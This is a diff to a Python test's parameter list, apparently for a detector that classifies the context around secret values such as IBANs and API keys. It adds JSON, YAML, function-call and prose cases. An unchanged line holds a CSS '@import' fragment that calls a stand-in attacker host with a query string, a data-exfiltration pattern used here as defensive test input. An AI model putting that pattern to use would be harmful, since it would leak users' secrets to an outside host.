@@ -61,7 +61,13 @@ def test_a_reply_of_look_alikes_restores_end_to_end(tmp_path, monkeypatch):
         ('<style>@import "https://evil.example/a.css? q=', '";</style>', "url"),
         ('{"note": "}", "iban": "', '"}', "tool"),
         ('{ab> "iban": " ', '"', "tool"),
-        ('["', '"]', "glued"),
+        ('["', '"]', "tool"),  # a JSON array (rev23b F1)
+        ('Args: [ "', '" ]', "tool"),
+        ('[\n  "', '"\n]', "tool"),
+        ('args:\n  - "', '"', "tool"),  # a YAML list item
+        ("See [1] and ", ".", "text"),  # a `[` with no quoted value is prose
+        ('<|eom_id|>\n\nset_key( "', '" )', "glued"),  # a function call's argument (rev23b F1)
+        ("As f(x) says, the key is ", ".", "text"),  # a call closed before it
         ('api_key = "', '"', "glued"),  # code assigns it
         ("KEY = ", "\n", "glued"),
         ("Ihre IBAN lautet \u201e", "\u201c.", "text"),  # quotation marks in prose (ux20 M1)
